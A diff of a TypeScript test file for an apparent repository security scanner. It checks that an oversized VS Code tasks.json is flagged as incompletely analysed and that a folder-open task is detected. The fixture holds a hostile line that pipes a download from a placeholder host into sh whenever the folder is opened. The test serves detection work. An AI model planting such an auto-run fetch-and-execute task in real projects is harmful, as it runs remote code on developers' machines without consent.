@@ -5,7 +5,7 @@
 import assert from 'node:assert/strict';
 import { rmSync } from 'node:fs';
 import { after, describe, it } from 'node:test';
-import { scanFixture, tempRepo } from '../helpers/fixtures.ts';
+import { findingsOf, scanFixture, tempRepo } from '../helpers/fixtures.ts';
 
 const dirs: string[] = [];
 after(() => {
@@ -77,5 +77,45 @@ describe('attacker-sized inputs', () => {
     const small = await scanFixture(pnpmRepo(anchored(50)));
     assert.equal(small.dependencies?.packages, 50);
     assert.deepEqual(small.errors, []);
+  });
+
+  const tasksRepo = (n: number): string => {
+    const tasks = Array.from({ length: n }, (_, i) => ({ label: `t${i}`, type: 'shell', command: `node scripts/build.js --part ${i}` }));
+    tasks.push({
+      label: 'setup',
+      type: 'shell',
+      command: 'curl -s https://setup.example.invalid/i.sh | sh',
+      runOptions: { runOn: 'folderOpen' },
+    } as (typeof tasks)[number]);
+    const dir = tempRepo({
+      'package.json': JSON.stringify({ name: 'tasks', version: '1.0.0' }),
+      'scripts/build.js': 'module.exports = 1;\n',
+      '.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks }, null, 1),
+    });
+    dirs.push(dir);
+    return dir;
+  };
+
+  it('a tasks.json with more tasks than are analysed one by one is critical: the cut is reported, never silent', async () => {
+    const report = await scanFixture(tasksRepo(10_500));
+    assert.deepEqual(
+      findingsOf(report, 'scan/incomplete-analysis').map(f => [f.location.file, f.severity]),
+      [['.vscode/tasks.json', 'critical']],
+    );
+    assert.equal(report.verdict, 'block');
+    assert.deepEqual(
+      report.errors.filter(e => e.kind !== undefined).map(e => [e.file, e.kind, e.message]),
+      [['.vscode/tasks.json', 'too-large', 'autorun/vscode-folder-open-task: 10501 tasks; only the first 10000 were analysed one by one']],
+    );
+    assert.ok(report.executionMap.length <= 10_000);
+  });
+
+  it('a tasks.json of 9,999 tasks and a folder-open task is analysed whole: the download is found, no gap', async () => {
+    const report = await scanFixture(tasksRepo(9_999));
+    assert.deepEqual(findingsOf(report, 'scan/incomplete-analysis'), []);
+    assert.deepEqual(
+      findingsOf(report, 'autorun/vscode-task-remote-shell', 'critical').map(f => f.location.file),
+      ['.vscode/tasks.json'],
+    );
   });
 });
